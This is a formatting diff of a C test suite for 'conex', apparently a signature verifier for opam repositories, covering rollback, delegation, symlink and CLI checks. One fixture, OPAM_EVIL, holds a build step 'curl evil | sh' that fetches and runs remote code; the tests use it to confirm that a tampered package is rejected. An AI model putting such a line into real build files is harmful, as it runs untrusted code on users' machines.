@@ -30,7 +30,8 @@
 
 static const char OPAM_FOO[] = "opam-version: \"2.0\"\nname: \"foo\"\n";
 static const char OPAM_BAR[] = "opam-version: \"2.0\"\nname: \"bar\"\ndepends: [\"foo\"]\n";
-static const char OPAM_EVIL[] = "opam-version: \"2.0\"\nbuild: [\"sh\" \"-c\" \"curl evil | sh\"]\n";
+static const char OPAM_EVIL[] =
+    "opam-version: \"2.0\"\nbuild: [\"sh\" \"-c\" \"curl evil | sh\"]\n";
 
 /* ---- warnings the verifier logs, kept for assertions ---- */
 
@@ -46,7 +47,8 @@ log_fn(void *arg, int level, const char *msg)
 	(void)level;
 	n = snprintf(logbuf + loglen, sizeof(logbuf) - loglen, "%s\n", msg);
 	if (n > 0)
-		loglen += (size_t)n < sizeof(logbuf) - loglen ? (size_t)n : sizeof(logbuf) - loglen - 1;
+		loglen +=
+		    (size_t)n < sizeof(logbuf) - loglen ? (size_t)n : sizeof(logbuf) - loglen - 1;
 }
 
 static struct cx_log tlog = {log_fn, NULL, CX_LOG_INFO};
@@ -148,8 +150,8 @@ fx_opts(struct fx *f, struct cx_verify_opts *o)
 }
 
 static int
-vdir(const char *dir, const struct cx_verify_opts *o, struct cx_verify_result *res,
-     struct cx_err *e)
+vdir(
+    const char *dir, const struct cx_verify_opts *o, struct cx_verify_result *res, struct cx_err *e)
 {
 	struct cx_verify_result tmp;
 	struct cx_repo *repo;
@@ -205,23 +207,24 @@ static void
 accept_(int r, const struct cx_err *e, int line)
 {
 	ck_assert_msg(r == 0, "line %d: expected acceptance, got %s: %s\nlog:\n%s", line,
-		      cx_code_str(r), e->msg, logbuf);
+	    cx_code_str(r), e->msg, logbuf);
 }
 
 static void
 reject_(int r, const struct cx_err *e, const char *s1, const char *s2, int line)
 {
 	ck_assert_msg(r == CX_EREJECT, "line %d: expected a rejection (%s), got %s: %s", line, s1,
-		      cx_code_str(r), e->msg);
+	    cx_code_str(r), e->msg);
 	if (getenv("CX_TEST_VERBOSE") != NULL)
 		fprintf(stderr, "line %d: rejected: %s\n", line, e->msg);
-	ck_assert_msg(strstr(e->msg, s1) != NULL, "line %d: expected '%s' in: %s", line, s1, e->msg);
+	ck_assert_msg(
+	    strstr(e->msg, s1) != NULL, "line %d: expected '%s' in: %s", line, s1, e->msg);
 	ck_assert_msg(s2 == NULL || strstr(e->msg, s2) != NULL, "line %d: expected '%s' in: %s",
-		      line, s2, e->msg);
+	    line, s2, e->msg);
 }
 
 /* Both need a struct cx_err e in scope. */
-#define ACCEPT(call) accept_((call), &e, __LINE__)
+#define ACCEPT(call)         accept_((call), &e, __LINE__)
 #define REJECT(call, s1, s2) reject_((call), &e, (s1), (s2), __LINE__)
 
 static void
@@ -271,7 +274,7 @@ rm_file(const char *dir, const char *rel)
 /* Signs targets t with each of keys (all signatures kept) and writes it to dir/rel. */
 static void
 sign_targets_keys(struct rb_world *w, struct cx_resource *t, struct rb_key *const *keys, size_t nk,
-		  const char *sub, const char *rel)
+    const char *sub, const char *rel)
 {
 	rb_clear_targets(t);
 	rb_add_targets_below(&w->a, t, w->dir, sub);
@@ -330,7 +333,7 @@ rotate_role(struct rb_world *w, int snapshot, uint64_t epoch)
 /* Adds a delegation of path to identity t (key hash pinned, epoch 0) to the delegating targets d. */
 static void
 delegate(struct rb_world *w, struct cx_resource *d, const char *path, const struct cx_resource *t,
-	 int terminating)
+    int terminating)
 {
 	char hex[CX_SHA256_HEX + 1];
 	struct cx_keyref ref;
@@ -403,7 +406,8 @@ START_TEST(test_endless_data_cap)
 	REJECT(vdir(d, &o, NULL, &e), "keys/m1", "larger than the metadata size cap of 8192 bytes");
 	/* the first file read is the root */
 	o.max_meta = 256;
-	REJECT(vdir(f.base, &o, NULL, &e), "root", "larger than the metadata size cap of 256 bytes");
+	REJECT(
+	    vdir(f.base, &o, NULL, &e), "root", "larger than the metadata size cap of 256 bytes");
 	fx_free(&f);
 }
 END_TEST
@@ -446,8 +450,8 @@ START_TEST(test_extraneous_dependencies)
 	/* a signed release moved to another version: same bytes, another path */
 	d = fx_copy(&f, f.base, "moved");
 	ck_assert_int_eq(rename(fx_path(&f, d, "packages/foo/foo.1.0.0"),
-				fx_path(&f, d, "packages/foo/foo.2.0.0")),
-			 0);
+	                     fx_path(&f, d, "packages/foo/foo.2.0.0")),
+	    0);
 	REJECT(vfy(&f, d, &e), "packages/foo/foo.2.0.0/", "not covered");
 	fx_free(&f);
 }
@@ -470,7 +474,8 @@ START_TEST(test_fast_forward_snapshot)
 	fx_opts(&f, &o);
 	ACCEPT(vdir(f.base, &o, &r1, &e));
 	ck_assert(r1.c.has_snapshot && r1.c.snap_counter == 0 && r1.c.snap_epoch == 0);
-	ck_assert_int_eq(cx_state_path(fx_path(&f, f.tmp, "state"), f.anchors, 1, &statepath, &e), 0);
+	ck_assert_int_eq(
+	    cx_state_path(fx_path(&f, f.tmp, "state"), f.anchors, 1, &statepath, &e), 0);
 	ck_assert_int_eq(cx_state_store(statepath, &r1.c, &e), 0);
 
 	/* the compromised snapshot key pushes the counter to the end of its range */
@@ -837,8 +842,8 @@ START_TEST(test_rollback_incremental)
 	fx_copy(&f, f.base, "timestamp");
 	rb_set_next_counter(w->rts, 2);
 	rb_world_sign_timestamp(w);
-	REJECT(vinc(&f, "v1", "timestamp", NULL, &e), "timestamp counter is moving backwards",
-	       NULL);
+	REJECT(
+	    vinc(&f, "v1", "timestamp", NULL, &e), "timestamp counter is moving backwards", NULL);
 	/* root back to 2 */
 	fx_copy(&f, f.base, "root");
 	sign_root_at(w, 2);
@@ -882,7 +887,8 @@ START_TEST(test_rollback_full_state)
 	/* v3: only a fresh timestamp */
 	v3 = fx_copy(&f, v2, "v3");
 	rb_world_sign_timestamp(w);
-	ck_assert_int_eq(cx_state_path(fx_path(&f, f.tmp, "state"), f.anchors, 1, &statepath, &e), 0);
+	ck_assert_int_eq(
+	    cx_state_path(fx_path(&f, f.tmp, "state"), f.anchors, 1, &statepath, &e), 0);
 	ck_assert_int_eq(cx_state_load(statepath, &st, &found, &e), 0);
 	ck_assert(!found);
 	ACCEPT(vdir(v3, &o, &r3, &e));
@@ -957,7 +963,7 @@ START_TEST(test_key_compromise_delegation)
 	sign_snap_ts(w);
 	REJECT(vfy(&f, d, &e), "packages/evil/evil.1.0/opam", "not covered");
 	ck_assert_msg(strstr(logbuf, "delegation of packages/evil: quorum not reached") != NULL,
-		      "%s", logbuf);
+	    "%s", logbuf);
 	/* control: a quorum of maintainers delegates */
 	delegate(w, w->rm[1], "packages/evil", et, 1);
 	rb_world_sign_targets(w, w->rm[1], w->m[1], subs, 2);
@@ -968,7 +974,8 @@ START_TEST(test_key_compromise_delegation)
 	w->rm[1]->ndels = 0;
 	{
 		struct cx_keyref ref = rb_remote("evil", w->m[1]->keyid, 0);
-		rb_add_delegation(&w->a, w->rm[1], "packages/evil", rb_quorum(&w->a, 1, &ref, 1), 1);
+		rb_add_delegation(
+		    &w->a, w->rm[1], "packages/evil", rb_quorum(&w->a, 1, &ref, 1), 1);
 	}
 	rb_world_sign_targets(w, w->rm[1], w->m[1], subs, 2);
 	sign_snap_ts(w);
@@ -1275,14 +1282,14 @@ START_TEST(test_bug1_quorum0_root)
 	REJECT(vdir(f.base, &o, NULL, &e), "root", "provided quorum was not matched");
 	/* the CLI without --quorum */
 	ck_assert_int_eq(cx_test_sh("'%s/conex' verify -t sha256=%s --dir '%s' --now %s --no-state "
-				    ">/dev/null 2>&1",
-				    CX_BUILD_DIR, w->root->keyid, f.base, w->created),
-			 1);
+	                            ">/dev/null 2>&1",
+	                     CX_BUILD_DIR, w->root->keyid, f.base, w->created),
+	    1);
 	/* ... and with --quorum 0, as opam passes a repository's quorum of 0 */
 	ck_assert_int_eq(cx_test_sh("'%s/conex' verify -t sha256=%s --quorum 0 --dir '%s' --now %s "
-				    "--no-state >/dev/null 2>&1",
-				    CX_BUILD_DIR, w->root->keyid, f.base, w->created),
-			 1);
+	                            "--no-state >/dev/null 2>&1",
+	                     CX_BUILD_DIR, w->root->keyid, f.base, w->created),
+	    1);
 	/* signed by a key that is not an anchor */
 	{
 		struct rb_key *mk = rb_key_gen("mirror", ALG);
@@ -1327,13 +1334,13 @@ START_TEST(test_bug4_nostrict)
 	/* the CLI flag */
 	d = fx_path(&f, f.tmp, "unsigned-pkg");
 	ck_assert_int_eq(cx_test_sh("'%s/conex' verify -t sha256=%s --dir '%s' --now %s --no-state "
-				    "-q 2>/dev/null",
-				    CX_BUILD_DIR, f.w.root->keyid, d, f.w.created),
-			 1);
+	                            "-q 2>/dev/null",
+	                     CX_BUILD_DIR, f.w.root->keyid, d, f.w.created),
+	    1);
 	ck_assert_int_eq(cx_test_sh("'%s/conex' verify -t sha256=%s --dir '%s' --now %s --no-state "
-				    "-q --nostrict 2>/dev/null",
-				    CX_BUILD_DIR, f.w.root->keyid, d, f.w.created),
-			 0);
+	                            "-q --nostrict 2>/dev/null",
+	                     CX_BUILD_DIR, f.w.root->keyid, d, f.w.created),
+	    0);
 	fx_free(&f);
 }
 END_TEST
@@ -1357,8 +1364,8 @@ malformed_m3(const char *what, const char *from, const char *to)
 	rb_world_sign_snapshot(w); /* the snapshot lists the broken file as it is */
 	rb_world_sign_timestamp(w);
 	ACCEPT(vfy(&f, d, &e));
-	ck_assert_msg(strstr(logbuf, "targets m3: malformed, dropped") != NULL, "%s: %s", what,
-		      logbuf);
+	ck_assert_msg(
+	    strstr(logbuf, "targets m3: malformed, dropped") != NULL, "%s: %s", what, logbuf);
 	if (getenv("CX_TEST_VERBOSE") != NULL)
 		fprintf(stderr, "%s: %s", what, logbuf);
 	/* with a quorum of 3, m3 is missed */
@@ -1448,14 +1455,15 @@ START_TEST(test_bug11_symlinks)
 	REJECT(vfy(&f, d, &e), "packages/foo/foo.1.0.0/opam", "symlink");
 	/* a data directory that is a symlink */
 	d = fx_copy(&f, f.base, "datadirlink");
-	ck_assert_int_eq(symlink(fx_path(&f, d, "packages/foo"), fx_path(&f, d, "packages/baz")), 0);
+	ck_assert_int_eq(
+	    symlink(fx_path(&f, d, "packages/foo"), fx_path(&f, d, "packages/baz")), 0);
 	REJECT(vfy(&f, d, &e), "packages/baz", "symlink");
 	/* the datadir itself */
 	d = fx_copy(&f, f.base, "datadir");
-	ck_assert_int_eq(rename(fx_path(&f, d, "packages"), fx_path(&f, f.tmp, "outside-packages")),
-			 0);
-	ck_assert_int_eq(symlink(fx_path(&f, f.tmp, "outside-packages"), fx_path(&f, d, "packages")),
-			 0);
+	ck_assert_int_eq(
+	    rename(fx_path(&f, d, "packages"), fx_path(&f, f.tmp, "outside-packages")), 0);
+	ck_assert_int_eq(
+	    symlink(fx_path(&f, f.tmp, "outside-packages"), fx_path(&f, d, "packages")), 0);
 	REJECT(vfy(&f, d, &e), "packages", "symlink");
 	/* keys/m3 a symlink to identical bytes */
 	d = fx_copy(&f, f.base, "keyfile");
@@ -1515,8 +1523,8 @@ START_TEST(test_bug15_case)
 	rb_add_targets_below(&w->a, t, d, "packages");
 	rb_set_next_counter(t, t->counter + 1);
 	ck_assert_int_eq(cx_resource_sign(&w->a, t, "M1", w->created, cx_sigalg_for_key(w->alg),
-					  cx_sign_evp, w->m[0]->pk, &e),
-			 0);
+	                     cx_sign_evp, w->m[0]->pk, &e),
+	    0);
 	rb_write(t, d, "keys/m1");
 	sign_snap_ts(w);
 	REJECT(vfy(&f, d, &e), "not covered", NULL);
@@ -1530,8 +1538,8 @@ START_TEST(test_bug15_case)
 	rb_clear_targets(t);
 	rb_add_targets_below(&w->a, t, d, "packages");
 	for (size_t i = 0; i < t->ntargets; i++) {
-		char *u = cx_arena_memdup(&w->a, t->targets[i].digests[0].value,
-					  t->targets[i].digests[0].len);
+		char *u = cx_arena_memdup(
+		    &w->a, t->targets[i].digests[0].value, t->targets[i].digests[0].len);
 		for (char *p = u; *p; p++)
 			if (*p >= 'a' && *p <= 'f')
 				*p = (char)(*p - 'a' + 'A');
@@ -1544,7 +1552,7 @@ START_TEST(test_bug15_case)
 	{
 		int r = vfy(&f, d, &e);
 		ck_assert_msg(r == CX_EREJECT && strstr(e.msg, "packages/") != NULL, "%s: %s",
-			      cx_code_str(r), e.msg);
+		    cx_code_str(r), e.msg);
 	}
 	/* root valid "ROOT", signed by "root" */
 	d = fx_copy(&f, f.base, "local");
@@ -1598,7 +1606,7 @@ START_TEST(test_bug16_and_or_roundtrip)
 	struct cx_buf w1, w2, c1, c2, k1, k2;
 	struct cx_err e;
 	struct rb_key *ka = rb_key_gen("a", ALG), *kb = rb_key_gen("b", ALG),
-		      *kc = rb_key_gen("c", ALG);
+	              *kc = rb_key_gen("c", ALG);
 	struct cx_keyref la = rb_local("a"), lb = rb_local("b"), lc = rb_local("c");
 
 	cx_arena_init(&a, 0);
@@ -1607,7 +1615,7 @@ START_TEST(test_bug16_and_or_roundtrip)
 	rb_add_key(&a, r, kb);
 	rb_add_key(&a, r, kc);
 	r->valid = rb_and(&a, rb_or(&a, rb_quorum(&a, 1, &la, 1), rb_quorum(&a, 1, &lb, 1)),
-			  rb_quorum(&a, 1, &lc, 1));
+	    rb_quorum(&a, 1, &lc, 1));
 	cx_buf_init(&w1, 0);
 	ck_assert_int_eq(cx_resource_write(r, &w1, &e), 0);
 	ck_assert_int_eq(cx_resource_parse(&a, "m1", w1.d, w1.len, CX_R_TARGETS, &r2, NULL, &e), 0);
@@ -1629,7 +1637,7 @@ START_TEST(test_bug16_and_or_roundtrip)
 	/* a | (b & c) is another expression */
 	r3 = rb_new(&a, CX_R_TARGETS, "m1", "2025-01-01T00:00:00Z");
 	r3->valid = rb_or(&a, rb_quorum(&a, 1, &la, 1),
-			  rb_and(&a, rb_quorum(&a, 1, &lb, 1), rb_quorum(&a, 1, &lc, 1)));
+	    rb_and(&a, rb_quorum(&a, 1, &lb, 1), rb_quorum(&a, 1, &lc, 1)));
 	cx_buf_free(&c1);
 	canon_expr(&a, r3->valid, &c1);
 	ck_assert_str_eq((char *)c1.d, "(a||(b&&c))");
@@ -1657,8 +1665,8 @@ START_TEST(test_bug16_and_or_roundtrip)
 		rb_add_key(&w->a, t, kb);
 		rb_add_key(&w->a, t, kc);
 		t->valid = rb_and(&w->a,
-				  rb_or(&w->a, rb_quorum(&w->a, 1, &la, 1), rb_quorum(&w->a, 1, &lb, 1)),
-				  rb_quorum(&w->a, 1, &lc, 1));
+		    rb_or(&w->a, rb_quorum(&w->a, 1, &la, 1), rb_quorum(&w->a, 1, &lb, 1)),
+		    rb_quorum(&w->a, 1, &lc, 1));
 		rb_key_hash(t, hex);
 		ref = rb_remote("m1", hex, 0);
 		w->rroot->role_maintainer = rb_quorum(&w->a, 1, &ref, 1);
@@ -1751,8 +1759,8 @@ START_TEST(test_libbug_lexer_comment_location)
 
 	cx_arena_init(&a, 0);
 	ck_assert_int_eq(cx_resource_parse(&a, "keys/m3", (const uint8_t *)doc, sizeof(doc) - 1,
-					   CX_R_TARGETS, &r, NULL, &e),
-			 CX_EPARSE);
+	                     CX_R_TARGETS, &r, NULL, &e),
+	    CX_EPARSE);
 	ck_assert_msg(strstr(e.msg, "unterminated comment") != NULL, "%s", e.msg);
 	at = strstr(e.msg, "keys/m3:");
 	ck_assert_msg(at != NULL && sscanf(at, "keys/m3:%u:%u:", &line, &col) == 2, "%s", e.msg);
@@ -1760,7 +1768,7 @@ START_TEST(test_libbug_lexer_comment_location)
 	for (unsigned i = 1; i < line; i++)
 		ls = strchr(ls, '\n') + 1;
 	ck_assert_msg(col >= 1 && col <= strcspn(ls, "\n") + 1, "%s: column %u is not on line %u",
-		      e.msg, col, line);
+	    e.msg, col, line);
 	cx_arena_free(&a);
 }
 END_TEST
@@ -1791,8 +1799,7 @@ END_TEST
 
 /* ======================= the CLI ======================= */
 
-static int
-cli(const char *args_fmt, ...) __attribute__((format(printf, 1, 2)));
+static int cli(const char *args_fmt, ...) __attribute__((format(printf, 1, 2)));
 
 static int
 cli(const char *args_fmt, ...)
@@ -1819,50 +1826,45 @@ START_TEST(test_cli_exit_codes)
 	fx_init(&f, 3, 2, 1);
 	w = &f.w;
 	snprintf(anchor, sizeof(anchor), "sha256=%s", w->root->keyid);
-	ck_assert_int_eq(cli("-t %s --dir '%s' --now %s --no-state", anchor, f.base, w->created), 0);
-	ck_assert_int_eq(cli("-t %s --quorum 1 --dir '%s' --now %s --no-state", anchor, f.base,
-			     w->created),
-			 0);
+	ck_assert_int_eq(
+	    cli("-t %s --dir '%s' --now %s --no-state", anchor, f.base, w->created), 0);
+	ck_assert_int_eq(
+	    cli("-t %s --quorum 1 --dir '%s' --now %s --no-state", anchor, f.base, w->created), 0);
 	/* opam may pass --quorum 0: still at least one anchored signature */
-	ck_assert_int_eq(cli("-t %s --quorum 0 --dir '%s' --now %s --no-state", anchor, f.base,
-			     w->created),
-			 0);
+	ck_assert_int_eq(
+	    cli("-t %s --quorum 0 --dir '%s' --now %s --no-state", anchor, f.base, w->created), 0);
 	/* rejected: stale, tampered, wrong anchor, quorum too high */
-	ck_assert_int_eq(cli("-t %s --dir '%s' --now 2026-01-01T00:00:00Z --no-state", anchor,
-			     f.base),
-			 1);
+	ck_assert_int_eq(
+	    cli("-t %s --dir '%s' --now 2026-01-01T00:00:00Z --no-state", anchor, f.base), 1);
 	ck_assert_int_eq(cli("-t %s --dir '%s' --now %s --expiry 100000000 --no-state", anchor,
-			     f.base, "2026-01-01T00:00:00Z"),
-			 0);
+	                     f.base, "2026-01-01T00:00:00Z"),
+	    0);
 	bad = fx_copy(&f, f.base, "bad");
 	write_str(bad, "packages/foo/foo.1.0.0/opam", OPAM_EVIL);
 	ck_assert_int_eq(cli("-t %s --dir '%s' --now %s --no-state", anchor, bad, w->created), 1);
-	ck_assert_int_eq(cli("-t sha256=%s --dir '%s' --now %s --no-state", w->m[0]->keyid, f.base,
-			     w->created),
-			 1);
-	ck_assert_int_eq(cli("-t %s --quorum 2 --dir '%s' --now %s --no-state", anchor, f.base,
-			     w->created),
-			 1);
+	ck_assert_int_eq(
+	    cli("-t sha256=%s --dir '%s' --now %s --no-state", w->m[0]->keyid, f.base, w->created),
+	    1);
+	ck_assert_int_eq(
+	    cli("-t %s --quorum 2 --dir '%s' --now %s --no-state", anchor, f.base, w->created), 1);
 	/* usage errors */
 	ck_assert_int_eq(cli("--dir '%s' --now %s --no-state", f.base, w->created), 2);
-	ck_assert_int_eq(cli("-t sha256=XYZ --dir '%s' --now %s --no-state", f.base, w->created), 2);
+	ck_assert_int_eq(
+	    cli("-t sha256=XYZ --dir '%s' --now %s --no-state", f.base, w->created), 2);
 	ck_assert_int_eq(cli("-t %s --dir '%s' --patch '%s/root' --now %s --no-state", anchor,
-			     f.base, f.base, w->created),
-			 2);
-	ck_assert_int_eq(cli("-t %s --incremental --dir '%s' --now %s --no-state", anchor, f.base,
-			     w->created),
-			 2);
+	                     f.base, f.base, w->created),
+	    2);
+	ck_assert_int_eq(
+	    cli("-t %s --incremental --dir '%s' --now %s --no-state", anchor, f.base, w->created),
+	    2);
 	ck_assert_int_eq(cli("-t %s --now %s --no-state", anchor, w->created), 2);
-	ck_assert_int_eq(cli("-t %s --dir '%s' --quorum -1 --now %s --no-state", anchor, f.base,
-			     w->created),
-			 2);
-	ck_assert_int_eq(cli("-t %s --dir '%s' --quorum x --now %s --no-state", anchor, f.base,
-			     w->created),
-			 2);
+	ck_assert_int_eq(
+	    cli("-t %s --dir '%s' --quorum -1 --now %s --no-state", anchor, f.base, w->created), 2);
+	ck_assert_int_eq(
+	    cli("-t %s --dir '%s' --quorum x --now %s --no-state", anchor, f.base, w->created), 2);
 	ck_assert_int_eq(cli("-t %s --dir '%s' --now yesterday --no-state", anchor, f.base), 2);
-	ck_assert_int_eq(cli("-t %s --dir '%s/absent' --now %s --no-state", anchor, f.tmp,
-			     w->created),
-			 2);
+	ck_assert_int_eq(
+	    cli("-t %s --dir '%s/absent' --now %s --no-state", anchor, f.tmp, w->created), 2);
 	/* rollback across full fetches with --state */
 	v2 = fx_copy(&f, f.base, "v2");
 	rb_world_file(w, "packages/foo/foo.2.0.0/opam", OPAM_FOO);
@@ -1871,29 +1873,32 @@ START_TEST(test_cli_exit_codes)
 	rb_world_sign_snapshot(w);
 	rb_world_sign_timestamp(w);
 	st = fx_path(&f, f.tmp, "state");
-	ck_assert_int_eq(cli("-t %s --dir '%s' --now %s --state '%s'", anchor, f.base, w->created, st),
-			 0);
-	ck_assert_int_eq(cli("-t %s --dir '%s' --now %s --state '%s'", anchor, v2, w->created, st), 0);
-	ck_assert_int_eq(cli("-t %s --dir '%s' --now %s --state '%s'", anchor, v2, w->created, st), 0);
-	ck_assert_int_eq(cli("-t %s --dir '%s' --now %s --state '%s'", anchor, f.base, w->created, st),
-			 1);
+	ck_assert_int_eq(
+	    cli("-t %s --dir '%s' --now %s --state '%s'", anchor, f.base, w->created, st), 0);
+	ck_assert_int_eq(
+	    cli("-t %s --dir '%s' --now %s --state '%s'", anchor, v2, w->created, st), 0);
+	ck_assert_int_eq(
+	    cli("-t %s --dir '%s' --now %s --state '%s'", anchor, v2, w->created, st), 0);
+	ck_assert_int_eq(
+	    cli("-t %s --dir '%s' --now %s --state '%s'", anchor, f.base, w->created, st), 1);
 	/* without the state the old copy is accepted again */
-	ck_assert_int_eq(cli("-t %s --dir '%s' --now %s --no-state", anchor, f.base, w->created), 0);
+	ck_assert_int_eq(
+	    cli("-t %s --dir '%s' --now %s --no-state", anchor, f.base, w->created), 0);
 	/* a damaged state is an error, never a reset that would allow the rollback */
 	{
 		char *sp;
 		struct cx_err e;
 		ck_assert_int_eq(cx_state_path(st, f.anchors, 1, &sp, &e), 0);
 		write_str("/", sp + 1, "garbage\n");
-		ck_assert_int_eq(cli("-t %s --dir '%s' --now %s --state '%s'", anchor, f.base,
-				     w->created, st),
-				 3);
+		ck_assert_int_eq(
+		    cli("-t %s --dir '%s' --now %s --state '%s'", anchor, f.base, w->created, st),
+		    3);
 		free(sp);
 	}
 	/* another set of anchors keeps another state */
 	ck_assert_int_eq(cli("-t %s,sha256=%s --dir '%s' --now %s --state '%s'", anchor,
-			     w->m[0]->keyid, f.base, w->created, st),
-			 0);
+	                     w->m[0]->keyid, f.base, w->created, st),
+	    0);
 	fx_free(&f);
 }
 END_TEST
